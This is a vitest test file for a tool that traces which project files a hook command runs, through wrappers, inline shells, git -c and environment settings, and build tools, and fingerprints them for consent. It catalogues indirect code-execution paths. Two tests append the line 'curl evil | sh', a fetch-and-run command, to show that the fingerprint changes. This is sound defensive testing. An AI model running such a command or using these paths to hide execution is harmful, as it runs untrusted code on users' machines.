/**
 * The project files a hook command runs through wrappers (`timeout 10 bash x`), inline command
 * lines (`sh -c 'sh x'`), interpreter options (`python3 -m mod`, `node -r ./x`), build tools
 * (`make`, `npm test`), and, failing closed, any file an argument names whose role is unknown. Every
 * file here is plain and not executable: only the command's words say that it runs.
 */
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { consentFingerprint } from "../src/fingerprint.js";
import { hookScripts } from "../src/hook-scripts.js";
import { filesRunBy, referencedScripts, scriptReferences } from "../src/script-references.js";
import { tempDir } from "./support.js";

const FILES = [
  ".claude/hooks/audit",
  ".claude/git-hooks",
  ".githooks/post-checkout",
  "x",
  "lock",
  "rc",
  "setup.js",
  "mod.py",
  "helper.rb",
  "pkg/__init__.py",
  "pkg/tool/__main__.py",
  "lib/Foo/Bar.pm",
  "Makefile",
  "justfile",
  "Rakefile",
  "Taskfile.yml",
  "gradle/wrapper/gradle-wrapper.properties",
  ".pre-commit-config.yaml",
  "package.json",
  "conf.yaml",
  "data.json",
];

/** A project holding FILES, none executable; `found(command)` lists the ones it runs, relative. */
function project() {
  const dir = tempDir();
  for (const rel of FILES) {
    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    fs.writeFileSync(path.join(dir, rel), `# ${rel}\n`, { mode: 0o644 });
  }
  const found = (command: string) => referencedScripts(command, dir).map((f) => path.relative(dir, f));
  const unchecked = (command: string) => scriptReferences(command, dir).unchecked;
  return { dir, found, unchecked };
}

describe("the script behind a wrapper", () => {
  it.each([
    ["timeout 10 bash .claude/hooks/audit", ".claude/hooks/audit"],
    ["timeout -s KILL -k 5 10s sh < x", "x"],
    ["nice -n 5 sh < x", "x"],
    ["nice sh < x", "x"],
    ["sudo -u me -E sh < x", "x"],
    ["stdbuf -oL -e 0 sh < x", "x"],
    ["setsid -w sh < x", "x"],
    ["flock -w 5 lock sh < x", "x"],
    ["busybox sh < x", "x"],
    ["/usr/bin/env -u HOME python3 < x", "x"],
    // bwrap's binds take two words: neither is taken for the program.
    ["bwrap --ro-bind / / --dev /dev sh < x", "x"],
    ["bwrap --overlay-src /a --overlay /rw /w /a sh < x", "x"],
    ["runuser -u me sh < x", "x"],
  ])("%s: the interpreter after it reads its script from %s", (command, script) => {
    expect(project().found(command)).toEqual([script]);
  });

  it.each([
    ["unbuffer sh x", "x"],
    ["chrt -o 0 sh x", "x"],
    ["taskset -c 0 sh x", "x"],
    ["strace -f -o log sh x", "x"],
    ["valgrind sh x", "x"],
    ["watch -n 1 sh x", "x"],
    ["script -qc 'sh x' rc", "x"],
    ["chronic -e sh x", "x"],
    ["rlwrap -S '> ' sh x", "x"],
    ["eatmydata sh x", "x"],
    ["faketime -f '@2020-01-01' sh x", "x"],
    ["conda run -n env sh x", "x"],
    ["direnv exec . sh x", "x"],
    ["mise exec node@20 -- sh x", "x"],
    ["nix develop .#dev -c sh x", "x"],
    ["aws-vault exec prof -- sh x", "x"],
  ])(
    "behind a scheduling wrapper, %s runs %s in a known role (a user's own hook running it is held)",
    (command, script) => {
      const { dir } = project();
      expect(filesRunBy(command, dir).map((f) => path.relative(dir, f))).toEqual([script]);
    },
  );

  it("a wrapper's own operand is not taken for the program: flock's lock file is not hashed", () => {
    expect(project().found("flock lock true")).toEqual([]);
  });

  it("xargs sh: the script is a word xargs reads, listed as unchecked", () => {
    expect(project().unchecked("git ls-files | xargs -n1 sh")).toEqual(["xargs -n1 sh"]);
  });

  it("find -exec sh {} ';': the script is a file find finds, listed as unchecked", () => {
    expect(project().unchecked("find . -name '*.sh' -exec sh {} \\;")).toEqual(["{}"]);
  });
});

describe("a command line a command runs", () => {
  it.each([
    ["sh -c 'sh x'", "x"],
    ["bash -xc 'cd .claude && bash hooks/audit'", ".claude/hooks/audit"],
    ["sh -c \"sh -c 'sh < x'\"", "x"],
    ["flock lock -c 'sh x'", "x"],
    ["script -qc 'sh x' /dev/null", "x"],
    ["su -c 'sh x'", "x"],
    ["runuser -u me -c 'sh x'", "x"],
    ["env -S 'sh x'", "x"],
    // getopt_long takes a start of a long option for it: --split-string, --command.
    ["env --sp='sh x'", "x"],
    ["runuser -u me --comm 'sh x'", "x"],
    ["eval 'sh x'", "x"],
    ["trap 'sh x' EXIT", "x"],
  ])("%s runs %s", (command, script) => {
    expect(project().found(command)).toEqual([script]);
  });

  it("sh -c nested deeper than it reads is listed as unchecked, not followed", () => {
    let command = "sh x";
    for (let k = 0; k < 12; k++) command = `sh -c '${command.replace(/'/g, `'\\''`)}'`;
    const { found, unchecked } = project();
    expect(found(command)).toEqual([]);
    expect(unchecked(command)).not.toEqual([]);
  });
});

describe("what an interpreter's options load", () => {
  it.each([
    ["awk -f x data.json", ["x"]],
    ["sed -nf x data.json", ["x"]],
    ["python3 -m mod arg", ["mod.py"]],
    ["python3 -m pkg.tool", ["pkg/__init__.py", "pkg/tool/__main__.py"]],
    ["node -r ./setup -e 1", ["setup.js"]],
    ["node --require ./setup -e 1", ["setup.js"]],
    [`node -e "require('./setup')"`, ["setup.js"]],
    ["perl -Ilib -MFoo::Bar -e 1", ["lib/Foo/Bar.pm"]],
    ["perl -I lib -mFoo::Bar=x -e 1", ["lib/Foo/Bar.pm"]],
    ["bash --rcfile rc -i", ["rc"]],
    ["BASH_ENV=rc bash -c 'echo hi'", ["rc"]],
    ["export BASH_ENV=rc; bash -c 'echo hi'", ["rc"]],
    ["python3.12 < x", ["x"]],
  ])("%s loads %j", (command, files) => {
    expect(project().found(command)).toEqual(files);
  });

  it.each([
    ["python3 -c 'import mod'", ["mod.py"]],
    ["python3 -c 'import sys, mod as m; m.run()'", ["mod.py"]],
    ["python3 -c 'from pkg import tool'", ["pkg/__init__.py", "pkg/tool/__main__.py"]],
    [`python3 -c "__import__('mod').main()"`, ["mod.py"]],
    ["perl -Ilib -e 'use Foo::Bar; Foo::Bar::run()'", ["lib/Foo/Bar.pm"]],
    [`ruby -e "require './helper'"`, ["helper.rb"]],
  ])("inline code importing a module of the project: %s loads %j", (command, files) => {
    expect(project().found(command)).toEqual(files);
  });

  it("inline code importing a module the project does not hold hashes nothing", () => {
    expect(project().found("python3 -c 'import json, sys; print(json.dumps(sys.argv))'")).toEqual([]);
  });

  it("awk's program text is code: what system() and a pipe run is hashed", () => {
    expect(project().found(`awk 'BEGIN { system("./x") }'`)).toEqual(["x"]);
    expect(project().found(`awk 'BEGIN { "sh x" | getline v }'`)).toEqual(["x"]);
  });

  it("awk's other strings are data: a file it writes or reads is not hashed (it would ask after each run)", () => {
    expect(project().found(`awk '{ print > "data.json" } END { getline l < "conf.yaml" }' x`)).toEqual([]);
  });

  it("an empty string literal does not throw the scan off: the next literal is still read", () => {
    expect(project().found(`python3 -c 'x = ""; __import__("mod")'`)).toEqual(["mod.py"]);
    expect(project().found(`node -e 'console.log(""); require("./setup")'`)).toEqual(["setup.js"]);
  });

  it("a name inline code joins from pieces is the name: the file it names is hashed", () => {
    expect(project().found(`node -e "require('./se' + 'tup')"`)).toEqual(["setup.js"]);
    expect(project().found(`python3 -c "exec(open('mo' 'd.py').read())"`)).toEqual(["mod.py"]);
    expect(project().found(`perl -e "do './li' . 'b/Foo/Bar.pm'"`)).toEqual(["lib/Foo/Bar.pm"]);
  });

  it("joined pieces naming no project file hash nothing", () => {
    expect(project().found(`python3 -c "print('a' + 'b'); print('p', 'q')"`)).toEqual([]);
  });

  it("awk's and sed's input files are data, not hashed", () => {
    expect(project().found("awk '{print}' data.json; sed -e s/a/b/ data.json")).toEqual([]);
  });
});

describe("what git's -c options make it run", () => {
  it.each([
    ["git -c alias.h='!sh x' h", ["x"]],
    ["git -c core.fsmonitor=./x status", ["x"]],
    ["git -C . -c core.pager='sh x' log", ["x"]],
    ["git rebase -x 'sh x' main", ["x"]],
    ["git rebase --exec='sh x' main", ["x"]],
    ["git submodule foreach --recursive 'sh x'", ["x"]],
    ["git bisect run sh x", ["x"]],
    ["git difftool -x 'sh x'", ["x"]],
    ["git --exec-path=.claude hooks", [".claude/git-hooks"]],
    ["git -c core.hooksPath=.githooks checkout main", [".githooks/post-checkout"]],
  ])("%s runs %j", (command, files) => {
    expect(project().found(command)).toEqual(files);
  });

  it("a -c value naming no program, and a subcommand's own -c, hash nothing", () => {
    expect(project().found("git -c user.name=me status; git commit -c x")).toEqual([]);
  });
});

describe("what git's environment variables make it run, as its -c and --exec-path options do", () => {
  it.each([
    [`GIT_CONFIG_PARAMETERS="'core.fsmonitor'='./x'" git status`, ["x"]],
    [`GIT_CONFIG_PARAMETERS="'user.name'='me' 'alias.h'='!sh x'" git h`, ["x"]],
    [
      "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=.githooks git checkout main",
      [".githooks/post-checkout"],
    ],
    ["GIT_EXEC_PATH=.claude git fetch", [".claude/git-hooks"]],
  ])("set before the command: %s runs %j", (command, files) => {
    expect(project().found(command)).toEqual(files);
  });

  it.each([
    [{ GIT_CONFIG_PARAMETERS: "'core.fsmonitor'='./x'" }, ["x"]],
    [{ GIT_CONFIG_PARAMETERS: "'core.hooksPath=.githooks'" }, [".githooks/post-checkout"]],
    [
      { GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "core.hooksPath", GIT_CONFIG_VALUE_0: ".githooks" },
      [".githooks/post-checkout"],
    ],
    [{ GIT_EXEC_PATH: ".claude" }, [".claude/git-hooks"]],
  ])("in the entry's env %j: a git command runs %j", (env, files) => {
    const { dir } = project();
    const scripts = hookScripts({ type: "command", command: "git status" }, dir, env);
    expect(scripts.map((f) => path.relative(dir, f))).toEqual(files);
  });

  it("an edit of the core.fsmonitor program GIT_CONFIG_PARAMETERS names changes the consent fingerprint", () => {
    const { dir } = project();
    const spec = { type: "command", command: "git status" } as const;
    const env = { GIT_CONFIG_PARAMETERS: "'core.fsmonitor'='./x'" };
    const before = consentFingerprint("entry", spec, dir, env);
    fs.appendFileSync(path.join(dir, "x"), "curl evil | sh\n");
    expect(consentFingerprint("entry", spec, dir, env)).not.toBe(before);
  });
});

describe("the files a build tool runs the commands of", () => {
  it.each([
    ["make", ["Makefile"]],
    ["make -C . lint", ["Makefile"]],
    ["npm test", ["package.json"]],
    ["npm run lint -- --fix", ["package.json"]],
    ["pnpm run lint", ["package.json"]],
    ["just lint", ["justfile"]],
    ["rake test", ["Rakefile"]],
    ["task build", ["Taskfile.yml"]],
    ["./gradlew check", ["gradle/wrapper/gradle-wrapper.properties"]],
    ["pre-commit run --all-files", [".pre-commit-config.yaml"]],
    ["bundle exec rake test", ["Rakefile"]],
    ["poetry run task build", ["Taskfile.yml"]],
    ["uv run --with rich just lint", ["justfile"]],
  ])("%s runs what %j says", (command, files) => {
    expect(project().found(command)).toEqual(files);
  });

  it.each([
    ["npm test", ["package.json", ".npmrc"]],
    ["pnpm run lint", ["package.json", ".npmrc", "pnpm-workspace.yaml"]],
    ["yarn test", ["package.json", ".npmrc", ".yarnrc.yml"]],
    ["bun run build", ["package.json", ".npmrc", "bunfig.toml"]],
  ])(
    "%s also runs as its configuration says: %j (script-shell, node-options, yarnPath, preload)",
    (command, files) => {
      const dir = tempDir();
      for (const rel of ["package.json", ".npmrc", "pnpm-workspace.yaml", ".yarnrc.yml", "bunfig.toml"])
        fs.writeFileSync(path.join(dir, rel), `# ${rel}\n`);
      expect(referencedScripts(command, dir).map((f) => path.relative(dir, f))).toEqual(files);
    },
  );

  it.each([
    [
      "yarn test",
      ".yarnrc.yml",
      "yarnPath: .yarn/releases/yarn-4.1.0.cjs\n",
      ".yarn/releases/yarn-4.1.0.cjs",
    ],
    ["yarn test", ".yarnrc", 'yarn-path ".yarn/releases/yarn-1.22.cjs"\n', ".yarn/releases/yarn-1.22.cjs"],
    ["npm test", ".npmrc", "script-shell=./tools/shell\n", "tools/shell"],
    ["npm run lint", ".npmrc", "node-options=--require ./tools/pre\n", "tools/pre"],
    ["bun run build", "bunfig.toml", 'preload = ["./tools/setup.ts"]\n', "tools/setup.ts"],
  ])("%s also runs what %s names (%j): its content counts", (command, config, text, named) => {
    const dir = tempDir();
    fs.writeFileSync(path.join(dir, "package.json"), "{}\n");
    fs.writeFileSync(path.join(dir, config), text);
    fs.mkdirSync(path.dirname(path.join(dir, named)), { recursive: true });
    fs.writeFileSync(path.join(dir, named), "// runs\n");
    expect(referencedScripts(command, dir).map((f) => path.relative(dir, f))).toEqual([
      "package.json",
      config,
      named,
    ]);
  });

  it("npx runs an installed package's program, not a script of package.json", () => {
    expect(project().found("npx eslint .")).toEqual([]);
  });
});

describe("failing closed", () => {
  it("a project file an unknown program names is hashed: it may be what the program runs", () => {
    expect(project().found("mytool --config conf.yaml; other --in=data.json")).toEqual([
      "conf.yaml",
      "data.json",
    ]);
  });

  it("says which files it hashes only failing closed, and not one it also runs", () => {
    const { dir } = project();
    const refs = scriptReferences("mytool conf.yaml x; sh x", dir);
    expect(refs.unknownRole.map((f) => path.relative(dir, f))).toEqual(["conf.yaml"]);
  });

  it("the arguments of a script it hashes are that script's data, not hashed", () => {
    expect(project().found("python3 -m mod data.json; bash .claude/hooks/audit conf.yaml")).toEqual([
      "mod.py",
      ".claude/hooks/audit",
    ]);
  });

  it("the values of a for loop are not hashed", () => {
    expect(project().found("for f in conf.yaml data.json; do echo $f; done")).toEqual([]);
  });

  it("a file a command known to read data names is not hashed", () => {
    expect(project().found("cat conf.yaml | jq . && grep -q x data.json && git diff conf.yaml")).toEqual([]);
  });

  it("an edit of a file an unknown program names changes the consent fingerprint", () => {
    const { dir } = project();
    const spec = { type: "command", command: "timeout 10 mytool conf.yaml" } as const;
    const before = consentFingerprint("entry", spec, dir);
    fs.appendFileSync(path.join(dir, "conf.yaml"), "run: curl evil | sh\n");
    expect(consentFingerprint("entry", spec, dir)).not.toBe(before);
  });
});
